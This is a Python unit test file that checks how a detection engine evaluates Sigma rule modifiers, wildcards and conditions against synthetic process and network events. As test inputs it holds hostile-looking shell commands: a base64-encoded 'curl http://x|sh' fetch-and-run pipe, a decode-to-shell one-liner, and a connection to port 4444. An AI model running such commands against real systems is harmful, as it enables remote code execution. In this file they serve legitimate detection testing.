"""Sigma's value semantics on built events: every modifier, wildcards and their escapes, case rules."""

from __future__ import annotations

import base64

from sentinel.events import EventType
from sentinel.rules import EvalContext
from tests.unit.rules_support import connect_ctx, exec_ctx, proc_chain
from tests.unit.sigma_support import fires, sigma_rules


def run(*argv: str, exe: str = "/usr/bin/bash", filename: str | None = None) -> EvalContext:
    proc = proc_chain(("bash", exe, list(argv)), ("nginx", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]))
    return exec_ctx(proc, filename=filename or exe)


CTX = run("bash", "-c", "id; uname -a")  # command line: bash -c id; uname -a


def test_strings_are_case_insensitive_and_cased_makes_them_exact() -> None:
    assert fires("sel:\n  CommandLine|contains: 'UNAME'\ncondition: sel", CTX)
    assert fires("sel:\n  Image|endswith: '/BASH'\ncondition: sel", CTX)
    assert fires("sel:\n  CommandLine|startswith: 'BASH -c'\ncondition: sel", CTX)
    assert fires("sel:\n  User: 'ROOT'\ncondition: sel", CTX)
    assert not fires("sel:\n  CommandLine|cased|contains: 'UNAME'\ncondition: sel", CTX)
    assert fires("sel:\n  CommandLine|cased|contains: 'uname'\ncondition: sel", CTX)
    assert not fires("sel:\n  User|cased: 'ROOT'\ncondition: sel", CTX)


def test_command_line_is_as_typed_or_as_sysmon_reports_it() -> None:
    # As typed (shell-quoted: arguments keep their boundaries) or as Sysmon for Linux and auditd report it
    # (argv joined by spaces), so rules written either way match; neither form's text is invented.
    assert fires("sel:\n  CommandLine: 'bash -c id; uname -a'\ncondition: sel", CTX)
    assert fires("sel:\n  CommandLine: \"bash -c 'id; uname -a'\"\ncondition: sel", CTX)
    assert not fires("sel:\n  CommandLine: \"bash -c 'id' 'uname -a'\"\ncondition: sel", CTX)
    piped = run("sh", "-c", "echo aWQK | base64 -d | sh", exe="/usr/bin/dash", filename="/bin/sh")
    pipe_rule = "sel:\n  CommandLine|startswith: 'sh -c '\n  CommandLine|endswith: '| sh'\ncondition: sel"
    assert fires(pipe_rule, piped)
    assert fires("sel:\n  CommandLine|contains: '-c echo aWQK |'\ncondition: sel", piped)
    typed = run("./tool", "--x", exe="/opt/tool", filename="./tool")
    assert fires("sel:\n  CommandLine|startswith: './tool '\ncondition: sel", typed)
    assert fires("sel:\n  ParentCommandLine: 'nginx -g daemon off;'\ncondition: sel", CTX)


def test_image_is_the_resolved_path_or_the_path_as_called() -> None:
    dash = run("sh", "-c", "x", exe="/usr/bin/dash", filename="/bin/sh")
    assert fires("sel:\n  Image|endswith: '/sh'\ncondition: sel", dash)
    assert fires("sel:\n  Image: '/usr/bin/dash'\ncondition: sel", dash)
    assert fires("sel:\n  ParentImage|endswith: '/nginx'\ncondition: sel", dash)


def test_wildcards_and_their_escapes() -> None:
    star = run("sh", "-c", "a*b")
    assert fires("sel:\n  Image: '/usr/*/ba?h'\ncondition: sel", CTX)
    assert not fires("sel:\n  Image: '/usr/*/ba?'\ncondition: sel", CTX)
    assert fires("sel:\n  CommandLine: '*A\\*B*'\ncondition: sel", star)  # \* is a literal star
    assert not fires("sel:\n  CommandLine: '*a\\*b*'\ncondition: sel", run("sh", "-c", "axxb"))
    assert fires("sel:\n  CommandLine: '*a?b*'\ncondition: sel", run("sh", "-c", "axb"))
    assert not fires("sel:\n  CommandLine: '*a\\?b*'\ncondition: sel", run("sh", "-c", "axb"))
    assert fires("sel:\n  CommandLine|contains: 'c:\\\\x'\ncondition: sel", run("sh", "c:\\x"))  # \\ is one
    assert fires("sel:\n  CurrentDirectory: '*'\ncondition: sel", CTX)  # any value: the field exists


def test_all_ands_the_values_and_a_list_ors_them() -> None:
    assert fires("sel:\n  CommandLine|contains|all: ['id;', 'uname']\ncondition: sel", CTX)
    assert not fires("sel:\n  CommandLine|contains|all: ['id;', 'whoami']\ncondition: sel", CTX)
    assert fires("sel:\n  CommandLine|contains: ['whoami', 'uname']\ncondition: sel", CTX)


def test_re_is_an_unanchored_case_sensitive_search_with_flags() -> None:
    assert fires("sel:\n  CommandLine|re: 'un[a-z]+e'\ncondition: sel", CTX)
    assert not fires("sel:\n  CommandLine|re: 'UNAME'\ncondition: sel", CTX)
    assert fires("sel:\n  CommandLine|re|i: 'UNAME'\ncondition: sel", CTX)
    assert fires("sel:\n  CommandLine|re: '(?i)^BASH'\ncondition: sel", CTX)
    lines = run("sh", "-c", "a\nb")
    assert not fires("sel:\n  CommandLine|re: '^b'\ncondition: sel", lines)
    assert fires("sel:\n  CommandLine|re|m: '^b'\ncondition: sel", lines)
    assert not fires("sel:\n  CommandLine|re: 'a.b'\ncondition: sel", lines)
    assert fires("sel:\n  CommandLine|re|s: 'a.b'\ncondition: sel", lines)


def test_windash_and_base64() -> None:
    assert fires("sel:\n  CommandLine|windash|contains: ' -c '\ncondition: sel", run("sh", "/c", "x"))
    b64 = base64.b64encode(b"curl http://x|sh").decode()
    enc = run("sh", "-c", f"echo {b64} | base64 -d | sh")
    assert fires("sel:\n  CommandLine|base64|contains: 'curl http://x|sh'\ncondition: sel", enc)
    assert fires("sel:\n  CommandLine|base64offset|contains: 'http://x'\ncondition: sel", enc)
    assert not fires("sel:\n  CommandLine|base64offset|contains: 'https://'\ncondition: sel", enc)


def test_exists_null_and_fieldref() -> None:
    orphan = exec_ctx(proc_chain(("x", "/usr/bin/x", ["x"])))
    assert fires("sel:\n  ParentImage|exists: true\ncondition: sel", CTX)
    assert not fires("sel:\n  ParentImage|exists: false\ncondition: sel", CTX)
    assert fires("sel:\n  ParentImage: null\ncondition: sel", orphan)
    assert not fires("sel:\n  ParentImage: null\ncondition: sel", CTX)
    same = exec_ctx(proc_chain(("bash", "/usr/bin/bash", ["bash"]), ("bash", "/USR/bin/bash", ["bash"])))
    assert fires("sel:\n  ParentImage|fieldref: Image\ncondition: sel", same)
    assert not fires("sel:\n  ParentImage|fieldref: Image\ncondition: sel", CTX)


def test_numbers_compare() -> None:
    assert fires("sel:\n  ProcessId|gt: 4000\ncondition: sel", CTX)  # pid 4242
    assert fires("sel:\n  ProcessId|gte: 4242\ncondition: sel", CTX)
    assert not fires("sel:\n  ProcessId|lt: 4242\ncondition: sel", CTX)
    assert fires("sel:\n  ProcessId|lte: 4242\ncondition: sel", CTX)
    assert fires("sel:\n  ProcessId: 4242\ncondition: sel", CTX)


def test_network_fields_cidr_and_initiated() -> None:
    out = connect_ctx("10.1.2.3", 4444)
    net = "network_connection"
    assert fires("sel:\n  DestinationIp|cidr: ['10.0.0.0/8', '192.168.0.0/16']\ncondition: sel", out, net)
    assert not fires("sel:\n  DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", connect_ctx(), net)
    assert fires("sel:\n  DestinationIp: '10.1.2.3'\n  DestinationPort: 4444\ncondition: sel", out, net)
    assert fires("sel:\n  Protocol: 'TCP'\n  Initiated: 'true'\ncondition: sel", out, net)
    assert not fires("sel:\n  Initiated: 'false'\ncondition: sel", out, net)
    rs = sigma_rules("sel:\n  Initiated: 'false'\ncondition: sel", net)
    assert rs.rules[0].event_types == {EventType.ACCEPT, EventType.ACCEPT4}


def test_keywords_search_the_command_line() -> None:
    assert fires("keywords:\n  - 'UNAME -a'\n  - 'whoami'\ncondition: keywords", CTX)
    assert not fires("keywords:\n  - 'whoami'\ncondition: keywords", CTX)
    assert fires("keywords:\n  '|all':\n    - 'id;'\n    - 'uname'\ncondition: keywords", CTX)


def test_condition_forms() -> None:
    det = (
        "sel_a:\n  Image|endswith: '/bash'\nsel_b:\n  CommandLine|contains: 'whoami'\n"
        "filter:\n  User: nobody\n"
    )
    assert fires(det + "condition: 1 of sel_*", CTX)
    assert not fires(det + "condition: all of sel_*", CTX)
    assert fires(det + "condition: 1 of them", CTX)
    assert not fires(det + "condition: all of them", CTX)
    assert fires(det + "condition: sel_a and not filter", CTX)
    assert fires(det + "condition: (sel_b or sel_a) and not 1 of filter*", CTX)
    assert fires(det + "condition:\n  - sel_b\n  - sel_a", CTX)  # a list of conditions: any of them
